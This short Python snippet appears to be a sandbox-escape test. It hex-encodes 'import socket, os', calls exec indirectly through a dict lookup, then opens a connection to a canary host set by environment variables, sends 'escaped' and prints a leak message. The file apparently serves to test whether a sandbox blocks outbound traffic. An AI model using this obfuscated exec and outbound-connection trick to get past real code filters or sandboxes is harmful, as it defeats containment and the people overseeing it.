# code in hexadecimal; connects to the host
code = bytes.fromhex("696d706f727420736f636b65742c206f73").decode()
runner = {"r": exec}["r"]
try:
    runner(code + "\nc = socket.create_connection((os.environ.get('HERSHY_CANARY_HOST', '127.0.0.1'), int(os.environ.get('HERSHY_CANARY_PORT', '1'))), 1)\nc.sendall(b'escaped')\nprint('LEAK: connected')")
except Exception as error:
    print(type(error).__name__)
